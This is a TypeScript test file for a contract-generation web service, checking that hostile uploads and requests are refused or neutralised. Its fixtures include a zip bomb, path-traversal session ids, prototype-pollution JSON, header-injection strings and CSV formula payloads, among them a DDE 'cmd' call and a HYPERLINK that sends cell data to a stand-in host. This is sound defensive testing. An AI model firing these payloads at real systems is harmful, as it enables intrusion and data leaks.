/**
 * Hostile input across the whole service: every case answers a 4xx in the spec envelope
 * `{success: false, message, data, ...}` (or, where the input is legal but dangerous, a safe
 * answer), and the service is healthy afterwards (health 200 and a normal preview still renders).
 * The route test files hold the per-route detail; this file holds the cross-cutting guarantees.
 */
import t, { type Test } from 'tap'
import fp from 'fastify-plugin'
import { randomUUID } from 'node:crypto'
import type { FastifyInstance, LightMyRequestResponse } from 'fastify'
import { parse } from 'csv-parse/sync'
import { CorruptSpreadsheetError } from '../src/spreadsheets/errors.js'
import { build, formPayload, pdfText, sampleEmployee, samplePartTime, sampleSubsidio, zipEntries, type FormFile } from './support/helper.js'
import { ADDENDUM_HEADERS, EMPLOYEE_HEADERS, csvText, employeeCells, fixture, numberedEmployee, workbook } from './support/spreadsheets.js'
import { buildZip, zipBomb } from './support/zip-tools.js'

// The CSV floods send 2 MB files of 900 000 lines to both uploads, each twice (CSV and .xlsx): about
// 40 s alone on a quiet 2-core machine, 90 s while the rest of the suite runs; the whole file
// needs more than the 120 s .taprc gives every file
t.setTimeout(300_000)

const MAX_FILE_SIZE = 2 * 1024 * 1024
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const CORRUPT = 'El archivo Excel está corrupto o no es un archivo válido'
const UPLOADS = ['/api/excel/upload', '/api/addendum/upload']
const JSON_ROUTES = [
  '/api/contracts/preview', '/api/contracts/download-zip', '/api/contract/download-zip',
  '/api/excel/download-lawlife', '/api/excel/download-sctr', '/api/excel/download-photocheck'
]
/** The adenda routes (D22): in the poisoned-JSON and content-type cases (size and depth are refused by the parser, before any route). */
const ADDENDUM_ROUTES = ['/api/addendum/preview', '/api/addendum/download-zip']

/** Why each refused spreadsheet was refused (the client only sees the spec's message). */
const corruptReasons: string[] = []
/** Every id that reached the session store: a malformed one must never get there (D3). */
const storeLookups: string[] = []

// one app for the file: the import worker pool starts once
const app: FastifyInstance = await build(t, { MAX_FILE_SIZE }, fp(async (instance: FastifyInstance) => {
  instance.addHook('onError', async (_request, _reply, error) => {
    if (error instanceof CorruptSpreadsheetError) corruptReasons.push(error.reason)
  })
}))
const lookup = app.sessions.get.bind(app.sessions)
app.sessions.get = async (id: string) => {
  storeLookups.push(id)
  return await lookup(id)
}

function upload (url: string, files: FormFile[], fields: Record<string, string> = {}): Promise<LightMyRequestResponse> {
  return formPayload(files, fields).then((form) => app.inject({ method: 'POST', url, ...form }))
}

function rawPost (url: string, payload: string | Buffer, contentType: string): Promise<LightMyRequestResponse> {
  return app.inject({ method: 'POST', url, payload, headers: { 'content-type': contentType } })
}

/** A value as an ASCII-only test label (a raw U+2028 or U+0085 would break the TAP stream). */
function label (value: unknown): string {
  return (JSON.stringify(value) ?? String(value)).replace(/[^\x20-\x7e]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).slice(0, 60)
}

/** A 4xx in the spec envelope (Errors: success false, a message, data present). */
function refused (t: Test, res: LightMyRequestResponse, what: string, message?: string, status = 400): void {
  t.equal(res.statusCode, status, `${what}: status`)
  t.match(res.headers['content-type'], /^application\/json/, `${what}: JSON`)
  const body = res.json()
  t.equal(body.success, false, `${what}: success false`)
  t.type(body.message, 'string', `${what}: a message`)
  t.ok('data' in body, `${what}: data present`)
  if (message !== undefined) t.equal(body.message, message, what)
}

/** Health answers and a normal preview still renders a readable PDF. */
async function healthy (t: Test, what: string): Promise<void> {
  const health = await app.inject({ method: 'GET', url: '/api/health' })
  t.equal(health.statusCode, 200, `${what}: health afterwards`)
  const preview = await app.inject({ method: 'POST', url: '/api/contracts/preview', payload: sampleEmployee() })
  t.equal(preview.statusCode, 200, `${what}: a preview afterwards`)
  t.match(await pdfText(preview.rawPayload), 'Rosa María Quispe Mamani')
}

t.test('a ~1 MB zip bomb disguised as .xlsx (inflating past 1 GB) is refused by the zip guard with little memory', async (t) => {
  const bomb = zipBomb(1024)
  t.ok(bomb.length < 1.5 * 1024 * 1024, `${bomb.length} bytes on the wire, 1 GiB inflated`)
  // start the import worker first, so its start-up is not counted against the bomb
  t.equal((await upload(UPLOADS[0], [{ name: 'empleados.csv', type: 'text/csv', bytes: fixture('empleados.csv') }])).statusCode, 200)
  for (const url of UPLOADS) {
    corruptReasons.length = 0
    const rssBefore = process.memoryUsage().rss
    const started = performance.now()
    const res = await upload(url, [{ name: 'bomba.xlsx', type: XLSX_TYPE, bytes: bomb }])
    const elapsedMs = performance.now() - started
    const growth = process.memoryUsage().rss - rssBefore
    refused(t, res, `bomb on ${url}`, CORRUPT)
    t.equal(corruptReasons.length, 1)
    t.match(corruptReasons[0], /^zip guard: entry \d+ inflates past the budget$/, 'refused while counting, before SheetJS saw it')
    t.ok(growth < 50 * 1024 * 1024, `RSS growth ${(growth / 1048576).toFixed(1)} MB < 50 MB`)
    t.comment(`${url}: bomb refused in ${elapsedMs.toFixed(0)} ms, RSS ${(growth / 1048576).toFixed(1)} MB`)
    await healthy(t, `bomb on ${url}`)
  }
  // the same bomb declaring its real size is refused from the header alone
  refused(t, await upload(UPLOADS[0], [{ name: 'bomba.xlsx', bytes: zipBomb(1024, 1024 ** 3) }]), 'declared bomb', CORRUPT)
})

t.test('truncated, mislabelled and text files posing as spreadsheets are the corrupt-file 400', async (t) => {
  const xlsx = fixture('empleados.xlsx')
  const xls = fixture('empleados.xls')
  const cases: [string, FormFile][] = [
    ['a truncated .xlsx', { name: 'cortado.xlsx', bytes: xlsx.subarray(0, Math.floor(xlsx.length / 2)) }],
    ['an .xlsx missing its last bytes', { name: 'cortado.xlsx', bytes: xlsx.subarray(0, xlsx.length - 30) }],
    ['a truncated .xls', { name: 'cortado.xls', bytes: xls.subarray(0, 3000) }],
    ['a .txt named .xlsx', { name: 'notas.xlsx', type: XLSX_TYPE, bytes: 'Esto es un archivo de texto.\r\nNo es una hoja de cálculo.\r\n' }],
    ['a .txt named .xls', { name: 'notas.xls', bytes: 'NOMBRE;DNI\r\nRosa;12345678\r\n' }],
    ['an .xlsx named .xls', { name: 'empleados.xls', bytes: xlsx }],
    ['an .xls named .xlsx', { name: 'empleados.xlsx', bytes: xls }],
    ['an .xlsx named .csv', { name: 'empleados.csv', type: 'text/csv', bytes: xlsx }],
    ['a PDF named .xlsx', { name: 'contrato.xlsx', bytes: Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj <<>> endobj\n') }],
    ['an empty .xlsx', { name: 'vacio.xlsx', bytes: '' }],
    ['a ZIP that is not a workbook', { name: 'fotos.xlsx', bytes: buildZip([{ name: 'foto.jpg', content: 'x' }]) }]
  ]
  for (const url of UPLOADS) {
    for (const [what, file] of cases) refused(t, await upload(url, [file]), `${what} on ${url}`, CORRUPT)
    await healthy(t, url)
  }
})

t.test('CSV floods (blank lines, ragged lines, a huge cell, rows past the limits) answer what the same .xlsx answers (docs/import.md)', async (t) => {
  for (const url of UPLOADS) {
    const headers = url.startsWith('/api/addendum') ? ADDENDUM_HEADERS : EMPLOYEE_HEADERS
    const header = headers.join(',') + '\r\n'
    const three = [headers, ...[1, 2, 3].map((i) => employeeCells(numberedEmployee(i)))]
    const hugeName = (length: number) => [headers, employeeCells(numberedEmployee(1, { name: 'x'.repeat(length) }))]
    // [what, the CSV, the .xlsx holding the same cells (SheetJS writes no cell over 32 767 characters)]
    const floods: [string, string, Buffer][] = [
      ['blank lines', header + '\r\n'.repeat(900_000), workbook([[headers]])],
      ['ragged lines', header + ',\n'.repeat(900_000), workbook([[headers]])],
      ['3 rows + 70 000 blank lines', csvText(three) + '\r\n'.repeat(70_000), workbook([three])],
      ['a row after 70 000 blank lines', csvText([...three, ...Array.from({ length: 70_000 }, () => []), three[1]]),
        workbook([[...three, ...Array.from({ length: 70_000 }, () => []), three[1]]])],
      ['600 000 rows', header + 'x\r\n'.repeat(600_000), workbook([[headers, ...Array.from({ length: 3000 }, () => ['x'])]])],
      ['one huge cell', csvText(hugeName(MAX_FILE_SIZE - 10_000)), workbook([hugeName(32_000)])]
    ]
    for (const [what, text, xlsx] of floods) {
      corruptReasons.length = 0
      const fromCsv = await upload(url, [{ name: 'inundado.csv', type: 'text/csv', bytes: text }])
      const fromXlsx = await upload(url, [{ name: 'inundado.xlsx', bytes: xlsx }])
      t.equal(fromCsv.statusCode, fromXlsx.statusCode, `${what} on ${url}: status`)
      // a workbook's text cell read as a date is a warning (docs/import.md); in a CSV every cell is text
      const { sessionId: _csv, warnings: _csvWarnings, ...csvData } = fromCsv.json().data ?? {}
      const { sessionId: _xlsx, warnings: _xlsxWarnings, ...xlsxData } = fromXlsx.json().data ?? {}
      if (what === '600 000 rows') {
        // the workbook holds 3 000 rows (SheetJS would take minutes to write 600 000): its count differs
        t.equal(csvData.received, undefined, 'the CSV was not read to its end: no count is claimed')
        t.match(csvData.hint, /más de/, 'the hint says "more than"')
        for (const data of [csvData, xlsxData]) { delete data.received; delete data.hint }
      }
      t.same({ ...fromCsv.json(), data: csvData }, { ...fromXlsx.json(), data: xlsxData }, `${what} on ${url}: the .xlsx answer`)
      t.not(fromCsv.json().message, CORRUPT, `${what} on ${url}: not the corrupt-file message`)
      t.same(corruptReasons, [], `${what} on ${url}: nothing read as corrupt`)
    }
    // 2 MB of commas stays under the field limit: parsed as one header row, which lacks the columns
    refused(t, await upload(url, [{ name: 'comas.csv', type: 'text/csv', bytes: ','.repeat(MAX_FILE_SIZE - 10) }]), `commas on ${url}`)
    await healthy(t, `floods on ${url}`)
  }
})

t.test('upload layer: two files, a wrong field, a file over MAX_FILE_SIZE, broken multipart', async (t) => {
  const file: FormFile = { name: 'empleados.xlsx', bytes: fixture('empleados.xlsx') }
  const boundary = 'LimiteHostil'
  const part = (name: string, extra = '') => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${extra}\r\n\r\nx\r\n`
  const multipart = `multipart/form-data; boundary=${boundary}`
  for (const url of UPLOADS) {
    const cases: [string, Promise<LightMyRequestResponse>, string][] = [
      ['two files', upload(url, [file, { ...file, name: 'otro.xlsx' }]), 'Solo puedes subir 1 archivo a la vez'],
      ['a wrong field name', upload(url, [{ ...file, field: 'archivo' }]), "Campo de archivo inesperado. Usa el campo 'excel'"],
      ['a file over MAX_FILE_SIZE', upload(url, [{ name: 'grande.csv', type: 'text/csv', bytes: Buffer.alloc(MAX_FILE_SIZE + 1, 0x41) }]),
        url === UPLOADS[0] ? 'El archivo es demasiado grande. Tamaño máximo: 2 MB' : 'El archivo excede el tamaño máximo permitido de 2MB'],
      ['a __proto__ field', rawPost(url, part('__proto__') + `--${boundary}--\r\n`, multipart), 'La solicitud multipart no es válida'],
      ['a constructor field', rawPost(url, part('constructor') + `--${boundary}--\r\n`, multipart), 'La solicitud multipart no es válida'],
      ['a body cut short', rawPost(url, part('excel', '; filename="a.csv"'), multipart), 'La solicitud multipart no es válida'],
      ['no boundary', rawPost(url, 'x', 'multipart/form-data'), 'La solicitud multipart no es válida'],
      ['31 parts', rawPost(url, Array.from({ length: 31 }, (_, i) => part(`f${i}`)).join('') + `--${boundary}--\r\n`, multipart), 'La solicitud multipart no es válida']
    ]
    for (const [what, pending, message] of cases) refused(t, await pending, `${what} on ${url}`, message)
    await healthy(t, url)
  }
  t.equal(({} as Record<string, unknown>).x, undefined, 'no prototype pollution from field names')
})

t.test('JSON with __proto__ / constructor.prototype keys is refused and pollutes nothing', async (t) => {
  const poisoned = [
    '{"__proto__": {"polluted": "sí"}}',
    '[{"__proto__": {"polluted": "sí"}}]',
    '{"employees": [{"name": "Rosa", "__proto__": {"polluted": "sí"}}]}',
    '{"constructor": {"prototype": {"polluted": "sí"}}}',
    '[{"constructor": {"prototype": {"polluted": "sí"}}}]',
    '{"\\u005f_proto__": {"polluted": "sí"}}',
    JSON.stringify({ ...sampleEmployee(), constructor: { prototype: { polluted: 'sí' } } })
  ]
  for (const url of [...JSON_ROUTES, ...ADDENDUM_ROUTES, ...UPLOADS]) {
    for (const body of poisoned) {
      const res = await rawPost(url, body, 'application/json')
      refused(t, res, `${label(body.slice(0, 30))} on ${url}`)
      t.match(res.json().message, /^El cuerpo JSON contiene una clave prohibida: body\.(\d+\.|employees\.0\.)?(__proto__|constructor\.prototype)$/, 'names the key (docs/reliability.md)')
    }
  }
  // a key named like the prototype that is merely data: accepted as data, still no pollution
  const res = await app.inject({ method: 'POST', url: '/api/excel/download-photocheck', payload: [{ ...sampleEmployee(), prototype: { polluted: 'sí' } }] })
  t.equal(res.statusCode, 200)
  t.equal(({} as Record<string, unknown>).polluted, undefined, '({}).polluted is still undefined')
  t.notOk(Object.hasOwn(Object.prototype, 'polluted'), 'Object.prototype untouched')
  await healthy(t, 'poisoned JSON')
})

t.test('a 2 MB JSON body is refused before parsing', async (t) => {
  const big = JSON.stringify(Array.from({ length: 2000 }, () => sampleEmployee({ address: 'x'.repeat(200) + 'y'.repeat(500) })))
  t.ok(big.length > 2 * 1024 * 1024, `${big.length} bytes`)
  for (const url of [...JSON_ROUTES, ...UPLOADS]) {
    refused(t, await rawPost(url, big, 'application/json'), `2 MB on ${url}`, 'El cuerpo de la solicitud supera el tamaño máximo permitido')
  }
  await healthy(t, '2 MB body')
})

t.test('deeply nested JSON (100 000 levels) is a 4xx, never a stack overflow', async (t) => {
  const depth = 100_000
  const bodies: [string, string][] = [
    ['arrays', '['.repeat(depth) + ']'.repeat(depth)],
    ['objects', '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)],
    ['wrapped', '{"employees":' + '['.repeat(depth) + ']'.repeat(depth) + '}'],
    ['with a constructor key inside (the prototype scan walks it)', '['.repeat(depth) + '{"constructor":{"prototype":{}}}' + ']'.repeat(depth)],
    ['unclosed', '['.repeat(depth)]
  ]
  for (const url of [...JSON_ROUTES, ...UPLOADS]) {
    for (const [what, body] of bodies) {
      const res = await rawPost(url, body, 'application/json')
      t.ok(res.statusCode >= 400 && res.statusCode < 500, `${what} on ${url}: ${res.statusCode}`)
      refused(t, res, `${what} on ${url}`, undefined, res.statusCode)
    }
  }
  await healthy(t, 'deep JSON')
})

t.test('session ids with ../, absolute paths, NUL bytes or URL-encoding are a 400 and never reach the store (D3)', async (t) => {
  const sessionId = await app.sessions.create([sampleEmployee() as never])
  storeLookups.length = 0
  const ids = [
    '../../etc/passwd', '../sessions/' + sessionId, sessionId + '/../../x', '/etc/passwd', '/tmp/' + sessionId,
    'C:\\Windows\\win.ini', '..\\..\\boot.ini', sessionId.slice(0, -1) + '\u0000', sessionId + '\u0000.json',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%2F..%2Fetc%2Fpasswd', encodeURIComponent('../' + sessionId), sessionId + '.json',
    sessionId.replaceAll('-', '%2D'), sessionId.replaceAll('-', '/'), 'x'.repeat(10_000)
  ]
  for (const id of ids) {
    const res = await app.inject({ method: 'POST', url: '/api/contracts/preview', payload: { sessionId: id, dni: '12345678', format: 'base64' } })
    refused(t, res, label(id), 'La solicitud no se pudo procesar')
    t.same(res.json().errors, [{ field: 'body.sessionId', message: 'El identificador de sesión debe ser un UUID válido' }])
  }
  for (const id of [42, null, ['x'], { id: sessionId }]) {
    refused(t, await app.inject({ method: 'POST', url: '/api/contracts/preview', payload: { sessionId: id, dni: '12345678' } }), label(id))
  }
  t.same(storeLookups, [], 'no malformed id reached the session store (and so the filesystem)')
  const unknown = randomUUID()
  refused(t, await app.inject({ method: 'POST', url: '/api/contracts/preview', payload: { sessionId: unknown, dni: '12345678' } }), 'unknown', `Sesión no encontrada: ${unknown}`, 404)
  t.same(storeLookups, [unknown], 'a well-formed id does')
  await healthy(t, 'session ids')
})

/** Positions that try to escape a file name or break a header (D18). */
const HOSTILE_POSITIONS = [
  '../../etc/passwd', '..\\..\\boot.ini', '/abs/path', 'C:\\Windows\\System32', 'Jefe "A" y \'B\'', 'Jefe\r\nSet-Cookie: x=1',
  'Jefe\nde turno', 'Cajero\u0000nulo', 'Tab\there', 'ESC\u001b[31mrojo', 'DEL\u007f', 'NEL\u0085x', 'Línea\u2028sep', '\u202Efdp.exe',
  'Técnico ñandú', 'Cajero ✓', '收银员', 'მოლარე', 'Кассир', '\u{1F697} Valet', '\u{1F600} Valet', 'Solo\ud800surrogate', '..', '.', 'a:b*c?d<e>f|g', 'con', '  ..oculto..  '
]

/**
 * Positions refused with a 400 on the field: a lone surrogate or a control character but tab and line
 * breaks (docs/import.md); CJK and U+1F697, which the documents' fonts lack (docs/documents.md).
 */
const REFUSED = /\p{Cs}|(?![\t\n\r])\p{Cc}|\p{Script=Han}|\u{1F697}/u
const ACCEPTED_POSITIONS = HOSTILE_POSITIONS.filter((position) => !REFUSED.test(position))

/** A Content-Disposition value is visible ASCII, its filename has no separator, quote or `..`, and filename* decodes. */
function safeDisposition (t: Test, header: string | undefined, what: string): string {
  t.match(header, /^(inline|attachment); filename="[^"]*"(; filename\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+)?$/, `${what}: well-formed`)
  t.match(header, /^[\x20-\x7e]+$/, `${what}: visible ASCII only`)
  const ascii = /filename="([^"]*)"/.exec(header ?? '')?.[1] ?? ''
  const utf8 = /filename\*=UTF-8''(.+)$/.exec(header ?? '')?.[1]
  const name = utf8 === undefined ? ascii : decodeURIComponent(utf8)
  for (const candidate of [ascii, name]) {
    t.notMatch(candidate, /[/\\]|\.\.|[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u, `${what}: ${label(candidate)} is one safe segment`)
  }
  return name
}

t.test('hostile positions in the preview Content-Disposition, record mode (D18)', async (t) => {
  for (const position of HOSTILE_POSITIONS) {
    const res = await app.inject({ method: 'POST', url: '/api/contracts/preview', payload: sampleEmployee({ position, positionProfile: 'cajero' }) })
    if (REFUSED.test(position)) {
      t.equal(res.statusCode, 400, label(position))
      t.match(res.json().errors, [{ field: 'body.position' }], `${label(position)}: refused on the field`)
      continue
    }
    t.equal(res.statusCode, 200, label(position))
    const name = safeDisposition(t, res.headers['content-disposition'] as string, label(position))
    t.match(name, /^12345678-.*\.pdf$/)
    t.equal(res.headers['set-cookie'], undefined, 'no header injected')
  }
  await healthy(t, 'positions in previews')
})

t.test('hostile positions imported from a spreadsheet reach the session preview safely, as file and base64 (D3, D18)', async (t) => {
  // the positions the JSON routes accept (a CSV cannot carry NUL nor lone surrogates anyway)
  const positions = ACCEPTED_POSITIONS
  const rows = [EMPLOYEE_HEADERS, ...positions.map((position, index) => employeeCells(numberedEmployee(index, { position, positionProfile: 'cajero' })))]
  const imported = await upload(UPLOADS[0], [{ name: 'cargos.csv', type: 'text/csv', bytes: csvText(rows) }])
  t.equal(imported.statusCode, 200, imported.body.slice(0, 200))
  const { sessionId, employees } = imported.json().data
  t.equal(employees.length, positions.length)
  for (const employee of employees as { dni: string, position: string }[]) {
    const file = await app.inject({ method: 'POST', url: '/api/contracts/preview', payload: { sessionId, dni: employee.dni, format: 'file' } })
    t.equal(file.statusCode, 200)
    const name = safeDisposition(t, file.headers['content-disposition'] as string, label(employee.position))
    const json = await app.inject({ method: 'POST', url: '/api/contracts/preview', payload: { sessionId, dni: employee.dni, format: 'base64' } })
    t.equal(json.json().data.fileName, name, 'the base64 reply names the same safe file')
  }
  await healthy(t, 'positions in sessions')
})

t.test('hostile positions never escape their folder in ZIP entry names, read back with yauzl (D18)', async (t) => {
  const types = [sampleEmployee, (o: Record<string, unknown>) => samplePartTime({ contractType: 'part time', ...o }), sampleSubsidio]
  const batch = ACCEPTED_POSITIONS.map((position, index) => types[index % 3]({ position, positionProfile: 'cajero', dni: String(30000000 + index) }))
  const res = await app.inject({ method: 'POST', url: '/api/contracts/download-zip', payload: batch })
  t.equal(res.statusCode, 200)
  safeDisposition(t, res.headers['content-disposition'] as string, 'zip')
  const entries = await zipEntries(res.rawPayload)
  t.equal(entries.length, 3 * batch.length, 'three entries per employee, no errores.txt')
  for (const { name } of entries) {
    const segments = name.split('/')
    t.ok(['planilla', 'parttime', 'subsidio'].includes(segments[0]), `${label(name)}: a contract-type folder`)
    t.ok(segments.length === 2 || (segments.length === 3 && ['Tratamiento de datos', 'Anexos'].includes(segments[1])), `${label(name)}: spec layout`)
    t.notMatch(name, /\\|\.\.|^\/|[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029\ufffd]/u, `${label(name)}: no escape, no control, no broken character`)
  }
  for (const [index, employee] of batch.entries()) {
    t.equal(entries.filter((entry) => entry.name.includes(employee.dni as string)).length, 3, `employee ${index} is in the ZIP whole`)
  }
  await healthy(t, 'positions in ZIP')
})

t.test('names with separators, quotes, controls or non-Latin letters are refused by the schema', async (t) => {
  // names never reach a file name or header (only dni and position do); whitespace, CR/LF included, is
  // allowed by the spec ("letters and whitespace") and printed as single spaces (cleanText)
  // (an apostrophe between letters is part of a name, O'Brien: README "Names")
  for (const name of ['../x', 'Rosa"', "Rosa'", 'Ro\u0000sa', 'Ro\u001bsa', 'Ro/sa', 'Ro\\sa', '收银员', 'Кассир', 'Rosa\ud800']) {
    for (const url of JSON_ROUTES) {
      const payload = sampleEmployee({ name })
      const res = await app.inject({ method: 'POST', url, payload: url.endsWith('preview') ? payload : [payload] })
      refused(t, res, `${label(name)} on ${url}`)
      t.match(res.json().errors, [{ field: url.endsWith('preview') ? 'body.name' : 'body.0.name' }])
    }
  }
  await healthy(t, 'names')
})

t.test('CSV-formula cells come out of the photocheck neutralised, also after a spreadsheet import', async (t) => {
  const formulas = ['=1+1', '+51 999 888 777', '-2+3', '@SUMA(A1:A2)', '=HYPERLINK("http://x.example/?q="&A1,"clic")',
    "=cmd|' /C calc'!A0", '\uff1d1+1', '\uff0bPlaya', '\uff20x', '=1+1\r\n=2+2']
  const direct = formulas.map((formula, index) => numberedEmployee(index, { position: formula, subDivisionOrParking: formula }))
  const rows = [EMPLOYEE_HEADERS, ...direct.map((employee) => employeeCells(employee))]
  const imported = await upload(UPLOADS[0], [{ name: 'formulas.csv', type: 'text/csv', bytes: csvText(rows) }])
  t.equal(imported.statusCode, 200, 'formula-looking cells are plain text on import')
  const importedEmployees = imported.json().data.employees
  t.same(importedEmployees.map((employee: { position: string }) => employee.position), formulas, 'imported verbatim, not evaluated')
  for (const [what, employees] of [['JSON', direct], ['imported', importedEmployees]] as const) {
    const res = await app.inject({ method: 'POST', url: '/api/excel/download-photocheck', payload: employees })
    t.equal(res.statusCode, 200)
    const [header, ...records] = parse(res.rawPayload, { bom: true }) as string[][]
    t.same(header, ['CARGO', 'DIVISION', 'DNI', 'APELLIDO', 'NOMBRE'])
    t.equal(records.length, formulas.length)
    for (const [index, record] of records.entries()) {
      for (const cell of record.slice(0, 2)) {
        t.equal(cell, `'${formulas[index]}`, `${what}: ${label(formulas[index])} starts with a quote, so it stays text`)
      }
    }
  }
  await healthy(t, 'formula cells')
})

t.test('odd content types and bodies on JSON and upload routes are 4xx', async (t) => {
  const csvPart = '--B\r\nContent-Disposition: form-data; name="excel"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\nDNI\r\n12345678\r\n--B--\r\n'
  for (const url of [...JSON_ROUTES, ...ADDENDUM_ROUTES, ...UPLOADS]) {
    for (const [what, payload, type] of [
      ['form-urlencoded', 'a=1', 'application/x-www-form-urlencoded'],
      ['multipart/mixed', 'x', 'multipart/mixed; boundary=B'],
      ['malformed JSON', '{"name": ', 'application/json'],
      ['JSON null', 'null', 'application/json'],
      ['JSON string', '"x"', 'application/json'],
      ['JSON [[]]', '[[]]', 'application/json'],
      ['NUL bytes', '\u0000\u0000\u0000', 'application/json'],
      ...(UPLOADS.includes(url) ? [] : [['multipart to a JSON route', csvPart, 'multipart/form-data; boundary=B']])
    ] as [string, string, string][]) {
      refused(t, await rawPost(url, payload, type), `${what} on ${url}`)
    }
  }
  await healthy(t, 'content types')
})

t.test('malformed and traversing URLs answer the envelope (400 or 404), never a file', async (t) => {
  for (const url of ['/api/%', '/api/contracts/preview%zz', '/api/excel/upload%E0%A4%A']) {
    refused(t, await app.inject({ method: 'POST', url }), url, 'La URL de la solicitud no es válida')
  }
  for (const url of ['/api/contracts/..%2f..%2fpackage.json', '/docs/static/..%2f..%2fpackage.json', '/docs/static/%2e%2e/%2e%2e/package.json', '/api/contracts/preview/..%00']) {
    const res = await app.inject({ method: 'GET', url })
    refused(t, res, url, undefined, 404)
    t.notMatch(res.body, /"name":\s*"contratos"/, `${url}: not package.json`)
  }
  await healthy(t, 'URLs')
})
